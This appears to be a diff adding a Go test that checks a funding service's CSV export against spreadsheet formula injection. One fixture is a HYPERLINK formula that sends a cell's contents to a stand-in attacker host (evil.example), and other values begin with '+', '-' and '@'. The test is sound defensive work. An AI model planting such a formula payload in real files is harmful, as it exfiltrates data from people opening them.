@@ -1,0 +1,65 @@
+package app_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/vif71/vif/services/funding/internal/domain"
+)
+
+// TestExportNeutralisesFormulas writes names a caller chose to look like formulas into an
+// agreement, exports it and opens the file with a real CSV reader: no cell starts a formula, and
+// each dangerous one reads as the text given, behind a quote.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	ctx := context.Background()
+	svc := newService(t)
+	const (
+		funderName = `=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`
+		reference  = "+CONV-2024-03"
+		purpose    = "-2+3 ISCG"
+	)
+	if _, err := svc.UpdateFunder(ctx, "departement-71", domain.Funder{DisplayName: funderName}, []string{"display_name"}, ""); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.CreatePlan(ctx, plan(2024), ""); err != nil {
+		t.Fatal(err)
+	}
+	a, err := svc.CreateAgreement(ctx, domain.Agreement{Post: "iscg-louhannais", Year: 2024, Purpose: purpose}, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.SignAgreement(ctx, a.ID, "@"+reference, "2024-02-10", ""); err != nil {
+		t.Fatal(err)
+	}
+	data, err := svc.ExportCSV(ctx, 2024)
+	if err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil || len(records) != 3 {
+		t.Fatalf("ExportCSV read back = %d records, %v; want the header and 2 rows:\n%s", len(records), err, data)
+	}
+	for _, r := range records {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts a formula", cell)
+			}
+		}
+	}
+	col := func(name string) int { return slices.Index(records[0], name) }
+	for _, r := range records[1:] {
+		if got := r[col("referenceDecision")]; got != "'@"+reference {
+			t.Errorf("referenceDecision = %q; want %q", got, "'@"+reference)
+		}
+		if got := r[col("objet")]; got != "'"+purpose {
+			t.Errorf("objet = %q; want %q", got, "'"+purpose)
+		}
+	}
+	if !slices.ContainsFunc(records[1:], func(r []string) bool { return r[col("nomAttribuant")] == "'"+funderName }) {
+		t.Errorf("no row names the funder %q behind a quote: %q", funderName, records[1:])
+	}
+}
